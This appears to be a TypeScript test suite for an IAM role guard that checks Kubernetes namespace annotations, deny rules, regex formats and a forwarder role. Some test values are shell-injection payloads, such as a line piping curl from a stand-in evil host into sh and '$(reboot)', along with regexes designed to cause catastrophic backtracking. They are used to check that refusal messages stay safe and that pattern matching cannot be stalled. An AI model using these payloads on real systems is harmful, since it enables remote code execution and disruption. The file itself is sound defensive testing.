import { describe, expect, it } from 'vitest';
import {
  createGuard,
  type Requester,
  type RolePolicy,
  roleArnFor,
} from '../../../../lambda/decide/guard.ts';
import type { ObservedNamespace } from '../../../../lambda/observe/namespaces.ts';
import { aNamespace, aPolicy, BASE_ROLE_ARN, listing } from '../../../support/builders/builders.ts';

const ALLOWED = 'iam.amazonaws.com/allowed-roles';
const PERMITTED = 'iam.amazonaws.com/permitted';

function decide(
  annotations: Record<string, string>,
  role = 'orders',
  policy: Parameters<typeof aPolicy>[0] = {},
) {
  const guard = createGuard(aPolicy(policy), listing([aNamespace('shop', annotations)]));
  return guard('shop', BASE_ROLE_ARN + role, 'pod');
}

describe('the policy of the stack', () => {
  it('refuses a role that matches none of the assumable patterns', () => {
    const decision = decide({ [ALLOWED]: '["*"]' }, 'admin', {
      assumableRoles: [`${BASE_ROLE_ARN}app-*`],
    });
    expect(decision).toMatchObject({ kind: 'refused', reason: 'role-not-assumable' });
  });

  it('refuses a denied role, ignoring case', () => {
    const decision = decide({ [ALLOWED]: '["*"]' }, 'CDK-hnb659fds-deploy', {
      deniedRoles: ['arn:aws:iam::*:role/cdk-*'],
    });
    expect(decision).toMatchObject({ kind: 'refused', reason: 'role-denied' });
  });

  it('refuses a denied role although everything else allows it', () => {
    const decision = decide({ [ALLOWED]: '["*"]' }, 'cdk-hnb659fds-deploy', {
      deniedRoles: ['arn:aws:iam::*:role/cdk-*'],
      namespaceRestrictions: 'off',
    });
    expect(decision).toMatchObject({ kind: 'refused', reason: 'role-denied' });
  });
});

describe('a namespace without annotation', () => {
  it.each([
    ['required', 'refused'],
    ['annotated', 'allowed'],
    ['off', 'allowed'],
  ] as const)('in mode %s is %s', (namespaceRestrictions, kind) => {
    expect(decide({}, 'orders', { namespaceRestrictions })).toMatchObject({ kind });
  });

  it.each([
    ['orders', 'orders$'],
    ['team.orders-v2', 'team[.]orders-v2$'],
  ])('is refused with an expression that allows only %s, in format regexp', (role, element) => {
    const policy = { allowedRolesFormat: 'regexp' } as const;
    const command = `'${ALLOWED}=${JSON.stringify([element])}'`;
    expect(decide({}, role, policy)).toMatchObject({ message: expect.stringContaining(command) });
    const annotations = { [ALLOWED]: JSON.stringify([element]) };
    expect(decide(annotations, role, policy).kind).toBe('allowed');
    for (const other of [`${role}-admin`, role.replace('.', 'x').replace(/s$/, '')]) {
      expect(decide(annotations, other, policy)).toMatchObject({
        message: expect.stringContaining(
          `add "${other.replaceAll('.', '[.]')}$" to its annotation`,
        ),
      });
    }
  });

  it('is refused with the command that allows the role', () => {
    expect(decide({})).toMatchObject({
      reason: 'namespace-not-annotated',
      message: expect.stringContaining(
        `kubectl annotate namespace shop 'iam.amazonaws.com/allowed-roles=["orders"]'`,
      ),
    });
  });
});

describe('a role with a path or of another account', () => {
  const ELSEWHERE = 'arn:aws-cn:iam::999999999999:role/team/orders';

  function refused(roleArn: string) {
    const policy = aPolicy({ assumableRoles: ['arn:*'] });
    return createGuard(policy, listing([aNamespace('shop', {})]))('shop', roleArn, 'awsIamRole');
  }

  it('is named by its path and name below the base in the command that allows it', () => {
    const command = `kubectl annotate namespace shop 'iam.amazonaws.com/allowed-roles=["team/orders"]'`;
    expect(refused(`${BASE_ROLE_ARN}team/orders`)).toMatchObject({
      message: expect.stringContaining(command),
    });
  });

  it('is named by its ARN if it is not below the base', () => {
    expect(refused(ELSEWHERE)).toMatchObject({
      message: expect.stringContaining(`=["${ELSEWHERE}"]'`),
    });
  });

  it.each(["'; curl evil.example|sh #", '$(reboot)', '`reboot`', '"', '\\'])(
    'is not in the command when its path contains %j, which is special in a shell',
    (path) => {
      const decision = refused(`${BASE_ROLE_ARN}${path}/orders`);
      expect(decision).toMatchObject({ reason: 'namespace-not-annotated' });
      const [, command = ''] = JSON.stringify(decision).split('to allow this one: ');
      expect(command).toMatch(/^kubectl edit namespace shop, and set/);
    },
  );
});

describe('annotations', () => {
  // allowed-roles, permitted, role -> decision
  it.each([
    ['["orders"]', undefined, 'orders', 'allowed'],
    ['["orders"]', undefined, 'orders-2', 'namespace-does-not-allow'],
    ['["ord*"]', undefined, 'orders-2', 'allowed'],
    ['["*"]', undefined, 'anything', 'allowed'],
    ['[]', undefined, 'orders', 'namespace-does-not-allow'],
    ['["billing","orders"]', undefined, 'orders', 'allowed'],
    ['["arn:aws:iam::123456789012:role/orders"]', undefined, 'orders', 'allowed'],
    ['["arn:aws:iam::999999999999:role/orders"]', undefined, 'orders', 'namespace-does-not-allow'],
    ['["order?"]', undefined, 'orders', 'namespace-does-not-allow'],
    ['["Orders"]', undefined, 'orders', 'namespace-does-not-allow'],
    [undefined, '.*', 'orders', 'allowed'],
    [undefined, '.*/orders', 'orders', 'allowed'],
    [undefined, 'orders', 'orders', 'namespace-does-not-allow'],
    [undefined, '.*/(orders|billing)', 'billing', 'allowed'],
    [
      undefined,
      'arn:aws:iam::123456789012:role/orders|x',
      'orders-admin',
      'namespace-does-not-allow',
    ],
    [undefined, 'x|.*orders', 'orders-admin', 'namespace-does-not-allow'],
    [undefined, '', 'orders', 'namespace-does-not-allow'],
    ['["billing"]', '.*/orders', 'orders', 'allowed'],
    ['["orders"]', '.*/billing', 'orders', 'allowed'],
    ['orders', undefined, 'orders', 'namespace-annotation-malformed'],
    ['"orders"', undefined, 'orders', 'namespace-annotation-malformed'],
    ['["orders", 1]', undefined, 'orders', 'namespace-annotation-malformed'],
    ['{"orders": true}', undefined, 'orders', 'namespace-annotation-malformed'],
    ['', undefined, 'orders', 'namespace-annotation-malformed'],
    [undefined, '(', 'orders', 'namespace-annotation-malformed'],
    [undefined, '(?=orders).*', 'orders', 'namespace-annotation-malformed'],
    [undefined, '(.*)\\1', 'orders', 'namespace-annotation-malformed'],
    [undefined, 'x'.repeat(513), 'orders', 'namespace-annotation-malformed'],
    ['["orders"]', '(', 'orders', 'namespace-annotation-malformed'],
    ['not json', '.*', 'orders', 'namespace-annotation-malformed'],
    [
      JSON.stringify(Array(2_000).fill('*b')),
      undefined,
      'orders',
      'namespace-annotation-malformed',
    ],
  ])('allowed-roles %j and permitted %j for %s: %s', (allowed, permitted, role, expected) => {
    const decision = decide(
      {
        ...(allowed === undefined ? {} : { [ALLOWED]: allowed }),
        ...(permitted === undefined ? {} : { [PERMITTED]: permitted }),
      },
      role,
    );
    expect('reason' in decision ? decision.reason : decision.kind).toBe(expected);
  });

  it('are ignored in mode off', () => {
    expect(decide({ [ALLOWED]: '[]' }, 'orders', { namespaceRestrictions: 'off' }).kind).toBe(
      'allowed',
    );
  });

  it.each([
    '(a+)+$',
    '((a*)*)*b',
    '(.*.*.*.*.*.*.*.*.*.*){100}x',
    '\\pL{1000}',
    '(x{1000}){1000}',
    '(?:a?){1000}a{1000}',
    '((.{0,30}){0,30})'.repeat(60),
    '((.{0,30}){0,30})'.repeat(28),
    `(?:(?:${'a'.repeat(480)}){0,30}){0,30}`,
    `(?:${'a?'.repeat(240)}){1000}`,
  ])('cannot stall a pass by %s', (expression) => {
    // A backtracking engine would never finish some of these.
    const decision = decide({ [PERMITTED]: expression }, 'a'.repeat(60));
    expect(decision.kind).toBe('refused');
    const listed = { [ALLOWED]: JSON.stringify([`x${expression}`]) };
    const policy = { allowedRolesFormat: 'regexp' } as const;
    expect(decide(listed, 'a'.repeat(60), policy).kind).toBe('refused');
  });

  it.each([
    ['a group repeated by count', ['orders(-[a-z]+){0,2}'], false],
    ['counts that add up', [`${'.{0,30}'.repeat(9)}`], false],
    ['one large count', ['orders-[a-z]{0,300}'], false],
    ['a Unicode class', ['orders-\\p{Greek}'], false],
    ['a long expression', ['orders'.repeat(86)], false],
    ['many small ones', Array(40).fill('orders-[a-z0-9-]{1,24}'), false],
    ['typical ones', ['orders-\\d{1,3}', 'orders-[a-z0-9-]{1,63}', 'x+'], true],
    ['sixty names', [...Array(60).keys()].map((i) => `team-orders-${i % 10}$`), true],
    ['twelve ARNs', Array(12).fill('arn:aws:iam::[0-9]{12}:role/team-a/orders-reader-.*'), true],
  ])('limit the complexity of the whole list: %s', (_, sources, isAccepted) => {
    const annotations = { [ALLOWED]: JSON.stringify(sources) };
    const decision = decide(annotations, 'billing', { allowedRolesFormat: 'regexp' });
    const reason = isAccepted ? 'namespace-does-not-allow' : 'namespace-annotation-malformed';
    expect(decision).toMatchObject({ reason });
  });

  it('are not quoted in a refusal, which an administrator may paste into a shell', () => {
    const decision = decide({ [ALLOWED]: `["'; curl evil.example | sh #"]` });
    expect(JSON.stringify(decision)).not.toContain('evil');
  });
});

describe('a refusal because of annotations', () => {
  const GLOB =
    'contains a glob, but the setting allowedRolesFormat is "regexp": write ".*" instead of "*", such as [".*"]';
  const EXPRESSION =
    'contains a regular expression, but the setting allowedRolesFormat is "glob": write "*" instead of ".*"';
  const NAME =
    'permitted was read and matches the name of the role, but must match its whole ARN: put ".*/" before it';
  const ARN = 'permitted was read, and does not match: it must match the whole ARN';
  const messageOf = (
    annotations: Record<string, string>,
    allowedRolesFormat: 'glob' | 'regexp',
    role = 'billing',
  ) => {
    const decision = decide(annotations, role, { allowedRolesFormat });
    return decision.kind === 'refused' ? decision.message : 'allowed';
  };

  it.each([
    // Not valid as expressions.
    ['regexp', ['*'], GLOB],
    ['regexp', ['*-reader'], GLOB],
    ['regexp', ['orders$', '*'], GLOB],
    ['regexp', ['arn:aws:iam::*:role/*'], GLOB],
    ['regexp', ['team/*'], GLOB],
    // Valid, but with another meaning.
    ['regexp', ['orders-*-reader'], GLOB],
    ['regexp', ['orders*'], GLOB],
    ['glob', ['.*'], EXPRESSION],
    ['glob', ['orders-.*'], EXPRESSION],
    ['glob', ['^orders$'], EXPRESSION],
    ['glob', ['orders|invoices'], EXPRESSION],
    ['glob', ['orders-[a-z]+'], EXPRESSION],
    ['glob', ['orders\\.reader'], EXPRESSION],
    ['glob', ['orders.+'], EXPRESSION],
  ] as const)('in format %s suggests the other format for %j', (format, elements, hint) => {
    expect(messageOf({ [ALLOWED]: JSON.stringify(elements) }, format)).toContain(hint);
  });

  it.each([
    ['regexp', ['.*-reader']],
    ['regexp', ['orders-[a-z0-9]*']],
    ['regexp', ['(team-)*orders']],
    ['regexp', ['orders-\\d*']],
    ['regexp', ['orders']],
    ['glob', ['orders-*']],
    ['glob', ['team.orders+v2@example=a,b']],
    ['glob', ['arn:aws:iam::123456789012:role/team/orders-*']],
  ] as const)('in format %s suggests no other format for %j', (format, elements) => {
    expect(messageOf({ [ALLOWED]: JSON.stringify(elements) }, format)).not.toMatch(
      /but the setting/,
    );
  });

  it('of an invalid expression is malformed as before if it does not look like a glob', () => {
    expect(messageOf({ [ALLOWED]: '["("]' }, 'regexp')).toContain('not valid RE2 syntax');
  });

  it.each([
    ['billing', NAME],
    ['bill.*', NAME],
    ['orders', ARN],
    ['role/billing', ARN],
    ['arn:aws:iam::123456789012:role/orders', ARN],
    ['.*billing-admin', ARN],
  ])('explains how permitted %j was read', (permitted, hint) => {
    expect(messageOf({ [PERMITTED]: permitted }, 'glob')).toContain(hint);
  });

  it.each(['.*/billing', '.*'])('permitted %j allows the role', (permitted) => {
    expect(messageOf({ [PERMITTED]: permitted }, 'glob')).toBe('allowed');
  });

  it('names both annotations if both were read', () => {
    const message = messageOf({ [ALLOWED]: '["orders*"]', [PERMITTED]: 'billing' }, 'regexp');
    expect(message).toContain(GLOB);
    expect(message).toContain(NAME);
  });

  it('quotes no annotation', () => {
    for (const format of ['glob', 'regexp'] as const) {
      for (const evil of ['*evil', 'evil*', 'evil.*', '^evil$']) {
        const annotations = { [ALLOWED]: JSON.stringify([evil]), [PERMITTED]: evil };
        expect(messageOf(annotations, format)).not.toContain('evil');
      }
    }
  });
});

describe('a namespace', () => {
  it('that is being deleted may use a role, and is reported as terminating', () => {
    const guard = createGuard(aPolicy(), listing([{ ...aNamespace(), terminating: true }]));
    expect(guard('shop', `${BASE_ROLE_ARN}orders`, 'pod')).toMatchObject({
      kind: 'allowed',
      isTerminating: true,
    });
  });

  it('that was not observed is undecided', () => {
    expect(createGuard(aPolicy(), listing([]))('shop', `${BASE_ROLE_ARN}orders`, 'pod').kind).toBe(
      'unknown',
    );
  });

  it('that was not observed may use a role in mode off', () => {
    const guard = createGuard(aPolicy({ namespaceRestrictions: 'off' }), listing([]));
    expect(guard('shop', `${BASE_ROLE_ARN}orders`, 'pod').kind).toBe('allowed');
  });
});

describe("the forwarder's role", () => {
  const HOME = 'kube-aws-iam';
  const PATHED = 'arn:aws:iam::123456789012:role/kube-aws-iam/forwarder-prod';

  function decideForwarder(
    where: string,
    namespaces: readonly ObservedNamespace[],
    policy: Partial<RolePolicy> = {},
    requester: Requester = 'pod',
  ) {
    const all = { forwarderRoleArn: `${BASE_ROLE_ARN}forwarder-prod`, ...policy };
    const whole = aPolicy(all);
    const roleArn = roleArnFor(whole, where, 'forwarder-prod');
    return createGuard(whole, listing(namespaces))(where, roleArn, requester);
  }

  it.each<[string, readonly ObservedNamespace[], Partial<RolePolicy>]>([
    ['no annotation', [aNamespace(HOME, {})], {}],
    ['an annotation that allows nothing', [aNamespace(HOME, { [ALLOWED]: '[]' })], {}],
    ['a malformed annotation', [aNamespace(HOME, { [PERMITTED]: '(' })], {}],
    [
      'assumableRoles without it',
      [aNamespace(HOME)],
      { assumableRoles: ['arn:aws:iam::1:role/x'] },
    ],
    ['deniedRoles with it', [aNamespace(HOME)], { deniedRoles: ['arn:aws:iam::*:role/*'] }],
    ['a namespace that was not observed', [], {}],
    ['no restrictions', [], { namespaceRestrictions: 'off' }],
    ['a role with a path', [aNamespace(HOME, {})], { forwarderRoleArn: PATHED }],
  ])("is allowed in the product's namespace with %s", (_, namespaces, policy) => {
    const { forwarderRoleArn: roleArn = `${BASE_ROLE_ARN}forwarder-prod` } = policy;
    expect(decideForwarder(HOME, namespaces, policy)).toEqual({
      kind: 'allowed',
      roleArn,
      isTerminating: false,
    });
  });

  it('is reported as terminating with its namespace', () => {
    const leaving = { ...aNamespace(HOME), terminating: true };
    expect(decideForwarder(HOME, [leaving])).toMatchObject({ isTerminating: true });
  });

  it.each(['required', 'annotated', 'off'] as const)(
    'is refused in every other namespace in mode %s',
    (namespaceRestrictions) => {
      for (const where of ['shop', `${HOME}-2`, 'kube-aws']) {
        const decision = decideForwarder(where, [aNamespace(where)], { namespaceRestrictions });
        expect(decision).toMatchObject({ kind: 'refused', reason: 'role-denied' });
      }
    },
  );

  it("is refused to an AWSIAMRole, also in the product's namespace", () => {
    for (const where of ['shop', HOME]) {
      const decision = decideForwarder(where, [aNamespace(where)], {}, 'awsIamRole');
      expect(decision).toMatchObject({ kind: 'refused', reason: 'role-denied' });
    }
  });

  it('is refused to an AWSIAMRole, ignoring case', () => {
    const policy = aPolicy({ forwarderRoleArn: `${BASE_ROLE_ARN}forwarder-prod` });
    const guard = createGuard(policy, listing([aNamespace(HOME)]));
    const decision = guard(HOME, `${BASE_ROLE_ARN}Forwarder-Prod`, 'awsIamRole');
    expect(decision).toMatchObject({ kind: 'refused', reason: 'role-denied' });
  });

  it("does not exempt the product's namespace from the rules for other roles", () => {
    const policy = aPolicy({ forwarderRoleArn: `${BASE_ROLE_ARN}forwarder-prod` });
    const guard = createGuard(policy, listing([aNamespace(HOME, {})]));
    expect(guard(HOME, `${BASE_ROLE_ARN}orders`, 'pod')).toMatchObject({
      reason: 'namespace-not-annotated',
    });
    expect(guard(HOME, `${BASE_ROLE_ARN}forwarder`, 'pod')).toMatchObject({
      reason: 'namespace-not-annotated',
    });
  });

  it('does not exist when the forwarder gets its credentials from elsewhere', () => {
    const guard = createGuard(aPolicy(), listing([aNamespace(HOME, {})]));
    expect(guard(HOME, `${BASE_ROLE_ARN}forwarder-prod`, 'pod')).toMatchObject({
      reason: 'namespace-not-annotated',
    });
  });

  it("is what its name stands for in the product's namespace only, whatever its path", () => {
    const policy = aPolicy({ forwarderRoleArn: PATHED });
    expect(roleArnFor(policy, HOME, 'forwarder-prod')).toBe(PATHED);
    expect(roleArnFor(policy, 'shop', 'forwarder-prod')).toBe(`${BASE_ROLE_ARN}forwarder-prod`);
    expect(roleArnFor(policy, HOME, 'orders')).toBe(`${BASE_ROLE_ARN}orders`);
  });
});
